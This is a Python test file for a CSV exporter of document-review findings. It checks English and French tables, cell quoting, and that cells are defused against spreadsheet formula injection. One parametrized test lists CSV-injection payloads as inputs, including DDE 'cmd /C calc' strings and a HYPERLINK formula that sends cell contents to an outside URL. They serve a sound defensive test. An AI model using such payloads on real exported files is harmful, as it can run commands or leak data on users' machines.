"""The findings as a table: read back by another reader, and nothing in it a spreadsheet would run."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from made_reviews import ODD, REVIEWER, decided, opened, whole

from placet.domain.language import Language
from placet.domain.review import Review
from placet.exporters.findings_csv import FORMULA, HEADS, findings_csv, safe, write_findings
from placet.publish import publish_findings

EN, FR = Language.ENGLISH, Language.FRENCH


def table(review: Review, language: Language) -> list[dict[str, str]]:
    text = findings_csv(review, language)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter="," if language is EN else ";"))


def test_each_finding_is_a_row_with_its_decision() -> None:
    review = whole(6)
    rows = table(review, EN)
    assert [row["Number"] for row in rows] == ["1", "2", "3", "4", "5", "6"]
    first = rows[0]
    assert (first["Level"], first["Rule"], first["Words found"]) == (
        "Error",
        "branding.leader-name",
        "Harper Government",
    )
    assert (first["Decision"], first["Decided by"]) == ("Change required", REVIEWER.name)
    assert first["Decided at (UTC)"] == "2026-11-20 18:54:00"
    assert first["Finding’s id"].lstrip("'") == review.findings[0].id
    assert (first["Start"], first["End"]) == ("10", "27")


def test_the_french_table_is_parted_by_semicolons_and_speaks_french() -> None:
    first = table(whole(3, FR), FR)[0]
    assert (first["Niveau"], first["Décision"]) == ("Erreur", "Modification requise")
    assert first["Constat"] == "Désigne le gouvernement par le nom de son chef"


def test_an_open_finding_says_so() -> None:
    assert {row["Decision"] for row in table(opened(2), EN)} == {"Undecided"}
    assert {row["Décision"] for row in table(opened(2), FR)} == {"À trancher"}


def test_a_review_without_findings_is_a_head_alone() -> None:
    assert table(whole(0), EN) == []
    assert findings_csv(whole(0), EN).count("\r\n") == 1


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("https://example.org/?"&A1,"more")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
    ],
)
def test_what_a_spreadsheet_would_run_stays_text(attack: str) -> None:
    reviewed = decided(opened(1, f"Harper Government {attack}"), attack)
    (row,) = table(reviewed, EN)
    assert row["Reason"].startswith("'")
    assert not any(FORMULA.match(cell) for cell in row.values())


@given(st.text())
def test_no_cell_begins_as_a_formula_and_no_word_is_lost(words: str) -> None:
    cell = safe(words)
    assert not FORMULA.match(cell)
    assert cell.removeprefix("'").replace("\ufffd", "") in (
        "".join(letter for letter in words if letter >= " " or letter in "\t\n\r").replace("\ufffd", ""),
        "".join(letter for letter in words if letter >= " " or letter in "\t\n\r")
        .replace("\ufffd", "")
        .removeprefix("'"),
    )


def test_ordinary_words_stay_as_they_are() -> None:
    for words in (
        "Harper Government",
        "5 % = a lot",
        "a-b",
        "#StrongFamilies",
        "’=",
        "",
        "« Bonjour »",
        "https://x.ca/?a=b",
    ):
        assert safe(words) == words


def test_lines_quotes_and_separators_in_a_cell_do_not_part_it() -> None:
    (row,) = table(decided(opened(1), 'He said "yes", and;\nleft.'), EN)
    assert row["Reason"] == 'He said "yes", and;\nleft.'
    assert len(row) == len(HEADS)


def test_the_oddest_words_are_written_and_read_back(tmp_path: Path) -> None:
    reviewed = decided(opened(2, "Harper Government families " + ODD), ODD)
    write_findings(reviewed, tmp_path / "findings.csv", EN)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "findings.csv").read_text("utf-8-sig"), newline="")))
    assert len(rows) == 2
    assert "中文" in rows[0]["Reason"]


def test_the_window_and_scripts_have_one_function_for_it(tmp_path: Path) -> None:
    written = publish_findings(whole(3), tmp_path / "draft.docx", tmp_path / "findings.csv", FR)
    assert written.read_bytes().startswith(b"\xef\xbb\xbfNum\xc3\xa9ro;Niveau;")
